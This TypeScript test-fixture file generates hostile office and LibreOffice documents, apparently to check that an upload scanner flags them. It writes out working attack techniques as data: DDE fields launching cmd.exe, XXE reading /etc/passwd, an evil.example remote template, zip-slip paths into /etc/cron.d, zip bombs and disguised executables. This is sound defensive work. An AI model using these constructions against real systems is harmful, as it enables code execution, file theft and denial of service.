import { linesFrom } from './good-files.ts'
import type { Hostile } from './hostile.ts'
import {
  type OfficeKind,
  type OfficePlan,
  officeMembers,
  openMembers,
  relation,
  writeOffice,
  writeOpen,
  xml,
} from './write-office.ts'
import { writeZip, type ZipMember } from './write-zip.ts'

const oldContainer = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1024)])
const runs = ['active-content'] as const

/** Documents of office programs, and archives that call themselves so. */
export const hostileOffice: readonly Hostile[] = [
  active('document with macros', 'docx', { more: [{ name: 'word/vbaProject.bin', content: oldContainer }] }),
  active('document whose macros bear another name', 'docx', {
    more: [{ name: 'word/theme.bin', content: oldContainer }],
  }),
  active('document that says it has macros', 'xlsx', { types: ['application/vnd.ms-office.vbaProject'] }),
  active('document with controls', 'docx', { more: [xml('word/activeX/activeX1.xml', '<ocx/>')] }),
  active('document with a template from elsewhere', 'docx', {
    relations: [relation('attachedTemplate', 'http://evil.example/a.dotm', 'External')],
  }),
  active('document with a picture from elsewhere', 'docx', {
    relations: [relation('image', 'http://evil.example/a.png', 'External')],
  }),
  active('document with an object of another program', 'pptx', {
    relations: [relation('oleObject', 'embeddings/a.bin')],
  }),
  active('document with a page of the web within', 'docx', { relations: [relation('aFChunk', 'a.html')] }),
  active('document with a field that starts a program', 'docx', {
    more: [
      xml(
        'word/header1.xml',
        '<w:hdr xmlns:w="x"><w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText></w:r></w:p></w:hdr>',
      ),
    ],
  }),
  active('workbook with a link that starts a program', 'xlsx', {
    more: [
      xml(
        'xl/externalLinks/externalLink1.xml',
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      ),
    ],
  }),
  active('document with a program within', 'docx', {
    more: [{ name: 'word/media/image1.png', content: Buffer.from('MZ\u0090\u0000', 'latin1') }],
  }),
  active('document with an archive within', 'docx', {
    more: [{ name: 'word/media/a.png', content: writeZip([]) }],
  }),
  active('slides whose table has macros', 'pptx', {
    more: [
      {
        name: 'ppt/embeddings/a.xlsx',
        content: writeOffice('xlsx', {
          words: ['a'],
          more: [{ name: 'xl/vbaProject.bin', content: oldContainer }],
        }),
        stored: true,
      },
    ],
  }),
  active('slides with a document in a document', 'pptx', {
    more: [{ name: 'ppt/embeddings/a.docx', content: nestedTwice(), stored: true }],
  }),
  broken('document with entities that grow', 'docx', {
    more: [
      xml(
        'word/_rels/a.rels',
        `<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><Relationships>&b;</Relationships>`,
      ),
    ],
  }),
  broken('document that fetches another file', 'docx', {
    more: [
      xml(
        'word/_rels/a.rels',
        `<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]><Relationships>&a;</Relationships>`,
      ),
    ],
  }),
  broken('document whose relations are written so that a plain look sees nothing', 'docx', {
    more: [{ name: 'word/_rels/a.rels', content: Buffer.from('\ufeff<Relationships/>', 'utf16le') }],
  }),
  hostile('document with names that lead outside', 'docx', ['broken'], (words) =>
    writeZip([
      ...officeMembers('docx', { words }),
      { name: '../../../../etc/cron.d/a', content: Buffer.from('a') },
    ]),
  ),
  hostile('document with names from the root', 'docx', ['broken'], (words) =>
    writeZip([...officeMembers('docx', { words }), { name: '/etc/cron.d/a', content: Buffer.from('a') }]),
  ),
  hostile('document with two members of one name', 'docx', ['broken'], (words) => {
    const members = officeMembers('docx', { words })
    return writeZip([...members, ...members.slice(3, 4)])
  }),
  hostile('document whose members bear other names where they lie', 'docx', ['broken'], (words) => {
    const [first, ...others] = officeMembers('docx', { words })
    const lying = others.map((member) => ({
      ...member,
      localName: member.name.replace('document', 'vbaproj1'),
    }))
    return writeZip(first === undefined ? [] : [first, ...lying])
  }),
  hostile('document that lies about what it opens into', 'docx', ['broken', 'bomb'], (words) =>
    writeZip([
      ...officeMembers('docx', { words }),
      { name: 'word/media/a.bin', content: Buffer.alloc(5_000_000), says: 1000 },
    ]),
  ),
  hostile('bomb in a document', 'docx', ['bomb'], (words) =>
    writeZip([...officeMembers('docx', { words }), ...zeros(8, 30_000_000)]),
  ),
  hostile('bomb of a high ratio in a document', 'xlsx', ['bomb'], (words) =>
    writeZip([...officeMembers('xlsx', { words }), ...zeros(1, 40_000_000)]),
  ),
  hostile('bomb whose members lie over each other', 'docx', ['bomb', 'broken'], (words) =>
    writeZip([...officeMembers('docx', { words }), ...zeros(1, 2_000_000)], { overlap: 20 }),
  ),
  hostile('archive of very many members', 'docx', ['bomb'], (words) =>
    writeZip([
      ...officeMembers('docx', { words }),
      ...Array.from({ length: 2500 }, (_, index) => ({
        name: `word/${index}.xml`,
        content: Buffer.from('<a/>'),
      })),
    ]),
  ),
  hostile(
    'document behind a program',
    'docx',
    ['unknown-type', 'active-content', 'wrong-type', 'broken'],
    (words) =>
      writeZip(officeMembers('docx', { words }), {
        before: Buffer.from(`MZ${'\u0000'.repeat(62)}`, 'latin1'),
      }),
  ),
  hostile('document with something behind it', 'docx', ['broken'], (words) =>
    Buffer.concat([writeOffice('docx', { words }), Buffer.from('<script>alert(1)</script>')]),
  ),
  hostile('document with sealed members', 'docx', ['locked', 'broken', 'unknown-type'], (words) =>
    writeZip(officeMembers('docx', { words }).map((member) => ({ ...member, encrypted: true }))),
  ),
  hostile('document under a password', 'docx', ['locked'], () =>
    Buffer.concat([oldContainer, Buffer.from('EncryptedPackage', 'utf16le'), Buffer.alloc(512)]),
  ),
  hostile('document of an old program', 'docx', ['unknown-type'], () => oldContainer),
  hostile('workbook that calls itself a document', 'docx', ['wrong-type'], (words) =>
    writeOffice('xlsx', { words }),
  ),
  hostile(
    'document with macros that calls itself one without',
    'docx',
    ['unknown-type', 'wrong-type', 'active-content'],
    (words) =>
      writeZip(
        officeMembers('docx', { words }).map((member) => ({
          ...member,
          content: Buffer.from(
            member.content
              .toString()
              .replace(
                'openxmlformats-officedocument.wordprocessingml.document.main',
                'ms-word.document.macroEnabled.main',
              ),
          ),
        })),
      ),
  ),
  hostile('plain archive that calls itself a document', 'docx', ['unknown-type'], () =>
    writeZip([{ name: 'a.exe', content: Buffer.from('MZ') }]),
  ),
  hostile('document of LibreOffice with macros', 'odt', runs, (words) =>
    writeOpen('odt', { words, more: [xml('Basic/Standard/Module1.xml', '<module/>')] }),
  ),
  hostile('document of LibreOffice with scripts', 'odt', runs, (words) =>
    writeOpen('odt', { words, more: [{ name: 'Scripts/python/a.py', content: Buffer.from('import os') }] }),
  ),
  hostile('document of LibreOffice that calls a script', 'odt', runs, (words) =>
    writeOpen('odt', {
      words,
      body: '<script:event-listener xlink:href="vnd.sun.star.script:../../pydoc.py$tempfilepager?language=Python"/>',
    }),
  ),
  hostile('document of LibreOffice under a password', 'ods', ['locked'], (words) =>
    writeOpen('ods', { words, manifest: '<manifest:encryption-data manifest:checksum="a"/>' }),
  ),
  hostile(
    'document of LibreOffice whose type comes late',
    'odt',
    ['unknown-type', 'wrong-type', 'broken'],
    (words) => writeZip(openMembers('odt', { words }).toReversed()),
  ),
]

function hostile(
  what: string,
  ending: string,
  faults: Hostile['faults'],
  write: (words: string[]) => Buffer,
): Hostile {
  return { what, ending, faults, write: (chance) => write(linesFrom(chance)) }
}

function active(what: string, kind: OfficeKind, plan: Omit<OfficePlan, 'words'>): Hostile {
  return hostile(what, kind, runs, (words) => writeOffice(kind, { words, ...plan }))
}

function broken(what: string, kind: OfficeKind, plan: Omit<OfficePlan, 'words'>): Hostile {
  return hostile(what, kind, ['broken'], (words) => writeOffice(kind, { words, ...plan }))
}

function zeros(count: number, bytes: number): ZipMember[] {
  return Array.from({ length: count }, (_, index) => ({
    name: `word/media/${index}.bin`,
    content: Buffer.alloc(bytes),
  }))
}

function nestedTwice(): Buffer {
  const inmost = writeOffice('xlsx', { words: ['a'] })
  return writeOffice('docx', {
    words: ['a'],
    more: [{ name: 'word/embeddings/a.xlsx', content: inmost, stored: true }],
  })
}
